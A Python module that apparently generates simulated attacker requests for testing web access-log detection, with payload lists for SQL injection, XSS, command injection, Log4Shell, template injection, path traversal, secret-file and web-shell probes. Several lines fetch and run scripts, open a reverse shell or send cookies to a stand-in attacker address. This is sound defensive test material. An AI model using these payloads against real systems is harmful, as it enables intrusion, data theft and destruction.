"""What simulated attackers request: one list per class, made of payloads and ways to write them.

Rule: these texts are made up here and not taken from any rule, so that a defence meets what it was not
written for. Each payload is written in several ways (plain, percent-encoded once and twice, mixed case,
comments), on the pages of this site that take it. Requests are as a server logs them: quotes, backslashes and
control characters are escaped.

>>> len(make_requests("secret_file", np.random.default_rng(1))) > 20
True
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from urllib.parse import quote, quote_plus

import numpy as np

from penstock.apps.accesslog.simulation.simulated_requests import escape_as_apache

_TAKERS = (
    "/products?page={}&sort=new",
    "/search?q={}",
    "/journal?topic={}",
    "/download?name={}",
    "/item.php?id={}",
)
_LAIR = "198.51.100.23"


def _list(text: str) -> tuple[str, ...]:
    return tuple(text.split())


_TRAVERSALS = (
    "../../../../etc/passwd",
    "../../../../../../../etc/shadow",
    "..\\..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/hosts",
    "../../../../proc/self/environ",
    "/static/../../../../../var/log/auth.log",
    "..;/..;/..;/WEB-INF/web.xml",
    "../../../../../boot.ini%00.png",
)
_INCLUSIONS = (
    f"http://{_LAIR}/r57.txt?",
    "https://paste.example.net/raw/k3v1?",
    "php://filter/convert.base64-encode/resource=../config",
    "php://input",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "expect://whoami",
    "file:///etc/group",
    "zip://uploads/pic.jpg#run",
    f"ftp://{_LAIR}/inc.php",
)
_SQL = (
    "7' or '5'='5",
    "7 union all select null,concat(login,0x3a,secret),null from members-- -",
    "7' and sleep(6)#",
    "7 and 8=9",
    "-7' union select 1,table_name,3 from information_schema.tables limit 1 offset 4-- x",
    "7;waitfor delay '0:0:6'--",
    "7' and extractvalue(3,concat(0x5c,(select version())))-- -",
    "7' order by 14-- -",
    "7) or benchmark(3000000,sha1(4))#",
    "lamp' and (select count(*) from mysql.user)>0 and 'k'='k",
    "7' or pg_sleep(6)--",
    "7';drop table orders;--",
)
_SCRIPTS = (
    "<script>alert(document.domain)</script>",
    '"><img src=q onerror=prompt(7)>',
    "<svg/onload=confirm`3`>",
    "';document.location='//" + _LAIR + "/c?'+document.cookie;//",
    "<body onpageshow=alert(4)>",
    "javascript:alert(String.fromCharCode(88,83))",
    "<iframe srcdoc='<script>fetch(1)</script>'>",
    "<details open ontoggle=eval(atob('YWxlcnQoMSk='))>",
)
_COMMANDS = (
    ";id;uname -a",
    "|cat /etc/passwd",
    f"`wget -q http://{_LAIR}/b.sh -O /tmp/b`",
    f"$(curl -s {_LAIR}:8080/i)",
    "&&ping -c 4 127.0.0.1",
    "\nwhoami",
    f";cd /tmp;busybox tftp -g -r m {_LAIR};sh m",
    "||powershell -enc SQBFAFgA",
    ";nc -e /bin/sh " + _LAIR + " 4444",
)
_JAVA = (
    f"${{jndi:ldap://{_LAIR}:1389/o}}",
    f"${{${{lower:j}}${{lower:n}}di:rmi://{_LAIR}/q}}",
    f"${{j${{::-n}}di:dns://{_LAIR}.log.example.net/z}}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "%{(#k=@java.lang.Runtime@getRuntime().exec('id'))}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
)
_PHP = (
    "<?php system($_GET[0]);?>",
    "assert($_POST[z])",
    "eval(base64_decode('cGhwaW5mbygpOw=='))",
    'O:8:"Auditlog":1:{s:4:"file";s:9:"shell.php";}',
    "${@print(md5(17))}",
    "preg_replace('/./e','phpinfo()','k')",
    "call_user_func('passthru','ls')",
)
_TEMPLATES = (
    "{{9*9}}",
    "${9*9}",
    "<%= 9*9 %>",
    "#{9*9}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    '<#assign e="freemarker.template.utility.Execute"?new()>${e("id")}',
)
_SECRETS = _list(
    """
    /.env /.env.production /api/.env /.git/HEAD /.git/index /.svn/wc.db /.hg/store /.aws/credentials
    /.ssh/id_ed25519 /.bash_history /.npmrc /.dockercfg /.htpasswd /backup.tar.gz /dump.sql.gz /site.zip
    /db_backup.sql /config.php.old /settings.py~ /wp-config.php.save /docker-compose.override.yml
    /terraform.tfstate /credentials.json /config/database.yml /web.config.bak /phpinfo.php
    /server-status?full /storage/logs/laravel.log
    """
)
_SHELLS = _list(
    """
    /wso2.php /c99shell.php /alfanew.php /b374k.php?p=1 /r57.php /mini.php?up /0x.php
    /uploads/img.php?cmd=id /images/cache/.x.php?c=ls /wp-content/uploads/2024/sh.php?exec=pwd
    /cmdjsp.jsp?cmd=whoami /files/aspxspy.aspx /tmp/leaf.php /assets/up.phtml?pass=1 /adminer-4.php
    """
)
_PROBED_HOLES = _list(
    """
    /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd
    /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /_ignition/execute-solution
    /solr/admin/cores?wt=json /actuator/gateway/routes /actuator/env /manager/html
    /boaform/admin/formLogin?username=user /GponForm/diag_Form?style/ /HNAP1/ /goform/set_LimitClient_cfg
    /tmui/login.jsp/..;/tmui/system/user/authproperties.jsp /mgmt/tm/util/bash
    /autodiscover/autodiscover.json?@k.example/mapi/nspi /owa/auth/logon.aspx /ecp/DDI/DDIService.svc
    /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
    /dana-na/../dana/html5acc/guacamole/
    /index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5
    /cgi-bin/luci/;stok=/locale?form=country /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=ls
    /wls-wsat/CoordinatorPortType /console/images/%252E%252E%252Fconsole.portal
    /struts2-showcase/index.action /confluence/pages/createpage-entervariables.action
    /geoserver/wfs?request=GetPropertyValue /hudson/script
    """
)
_CMS = _list(
    """
    /wp-login.php /wp-admin/setup-config.php /xmlrpc.php?rsd /wp-json/wp/v2/users /wordpress/
    /wp-content/plugins/duplicator/readme.txt /wp-content/plugins/elementor/readme.txt /wp1/wp-includes/
    /blog/wp-includes/wlwmanifest.xml /administrator/manifests/files/joomla.xml /typo3/index.php
    /sites/default/files/ /CHANGELOG.txt /user/login?destination=node /magento_version /umbraco/
    /media/system/js/core.js /skin/adminhtml/ /bitrix/admin/ /ghost/api/v3/admin/site/
    """
)
_PROBE_WORDS = _list(
    """
    admin backup old test dev tmp private panel db sql phpmyadmin webmail portal manage cpanel uploads files
    data logs secret staging beta console monitor status internal jenkins git svn install setup api-docs
    swagger
    """
)
_STRANGE = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x7fQ",
    b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=hello",
    b"-",
    b"PRI * HTTP/2.0",
    b"GET / HTTP/7.3",
    b"SSH-2.0-libssh2_1.11",
    b"\n",
    b"TRACE / HTTP/1.1",
    b"DEBUG /x.aspx HTTP/1.1",
    b"<SCAN>x</SCAN> / HTTP/1.1",
    b"GET",
    b"HELP",
    b"SEARCH /" + b"\x90" * 60 + b" HTTP/1.1",
    b"GET /" + b"A" * 9_000 + b" HTTP/1.1",
)
_FOREIGN_SITES = (
    "http://judge.example.net/azenv.php",
    "http://www.example.com:80/",
    "http://ip.example.net/json",
)
_TUNNELS = ("mail.example.net:25", "www.example.com:443", "203.0.113.9:22", "api.example.net:443")
_SPAM_PLACES = (
    "/contact",
    "/journal/comment",
    "/guestbook/sign.php",
    "/index.php?option=com_contact&task=send",
)
#: How far each of the four numbered addresses counts.
COUNTED = 160
LOGINS = ("/login", "/wp-login.php", "/administrator/index.php", "/user/login", "/xmlrpc.php", "/admin/auth")


def _plain(text: str) -> str:
    return text.replace(" ", "%20").replace("\n", "%0a").replace("#", "%23").replace("&", "%26")


def _mix_case(text: str) -> str:
    return _plain("".join(c.upper() if n % 2 else c for n, c in enumerate(text)))


def _comment(text: str) -> str:
    return quote(text.replace(" ", "/**/"), safe="/*'(),=")


_WRITINGS: tuple[Callable[[str], str], ...] = (
    _plain,
    quote_plus,
    lambda text: quote(text, safe=""),
    lambda text: quote(quote(text, safe=""), safe=""),
)
_MORE_WRITINGS = {"sql_injection": (_mix_case, _comment), "xss": (_mix_case,)}


def make_requests(name: str, dice: np.random.Generator) -> list[bytes]:
    """Return different requests of one class as logged, in random order unless the order matters."""
    made = list(dict.fromkeys(_MAKERS[name](name)))
    if name == "enumeration":
        return made
    return [made[number] for number in dice.permutation(len(made)).tolist()]


def make_agent_payloads() -> list[bytes]:
    """Return agents that are attacks themselves."""
    shell = b"() { :;}; /bin/bash -c 'id > /dev/tcp/%s/80'" % _LAIR.encode()
    return [escape_as_apache(each) for each in (shell, *(text.encode() for text in _JAVA[:3]))]


def _request(target: str, method: str = "GET") -> bytes:
    return escape_as_apache(f"{method} {target} HTTP/1.1".encode())


def _in_pages(payloads: Sequence[str]) -> Callable[[str], list[bytes]]:
    def make(name: str) -> list[bytes]:
        ways = (*_WRITINGS, *_MORE_WRITINGS.get(name, ()))
        return [_request(page.format(way(each))) for each in payloads for page in _TAKERS for way in ways]

    return make


def _as_paths(paths: Sequence[str]) -> Callable[[str], list[bytes]]:
    def make(_: str) -> list[bytes]:
        return [_request(path) for path in paths]

    return make


def _make_traversals(name: str) -> list[bytes]:
    overlong = [each.replace("../", "..%c0%af") for each in _TRAVERSALS if "../" in each]
    dotted = [each.replace("../", "%2e%2e/") for each in _TRAVERSALS if "../" in each]
    paths = [f"/static/{each.lstrip('/')}" for each in (*overlong, *dotted)]
    return [*_in_pages(_TRAVERSALS)(name), *_as_paths(paths)(name)]


def _make_probes(_: str) -> list[bytes]:
    endings = ("/", ".php", ".bak", ".zip", "-old/", "2/", ".txt", ".cgi")
    return [_request(f"/{word}{ending}") for word in _PROBE_WORDS for ending in endings]


def _make_enumerations(_: str) -> list[bytes]:
    shapes = ("/?author={}", "/api/v1/users/{}", "/invoice.php?no={}", "/account/orders/{}")
    return [_request(shape.format(number)) for shape in shapes for number in range(1, COUNTED + 1)]


def _make_floods(_: str) -> list[bytes]:
    return [_request(f"/search?q={number * 7919 % 100_003}&_={number}") for number in range(400)]


def _make_proxied(_: str) -> list[bytes]:
    asked = [_request(site) for site in _FOREIGN_SITES]
    return [*asked, *(f"CONNECT {each} HTTP/1.1".encode() for each in _TUNNELS)]


def _make_posts(places: Sequence[str]) -> Callable[[str], list[bytes]]:
    return lambda _name: [_request(place, "POST") for place in places]


def _make_strange(_: str) -> list[bytes]:
    return [each if each == b"-" else escape_as_apache(each) for each in _STRANGE]


_MAKERS: dict[str, Callable[[str], list[bytes]]] = {
    "brute_force": _make_posts(LOGINS),
    "cms_probe": _as_paths(_CMS),
    "command_injection": _in_pages(_COMMANDS),
    "cve_probe": _as_paths(_PROBED_HOLES),
    "enumeration": _make_enumerations,
    "file_inclusion": _in_pages(_INCLUSIONS),
    "flood": _make_floods,
    "form_spam": _make_posts(_SPAM_PLACES),
    "java_injection": _in_pages(_JAVA),
    "path_traversal": _make_traversals,
    "php_injection": _in_pages(_PHP),
    "probing": _make_probes,
    "protocol_abuse": _make_strange,
    "proxy_abuse": _make_proxied,
    "secret_file": _as_paths(_SECRETS),
    "sql_injection": _in_pages(_SQL),
    "template_injection": _in_pages(_TEMPLATES),
    "web_shell": _as_paths(_SHELLS),
    "xss": _in_pages(_SCRIPTS),
}
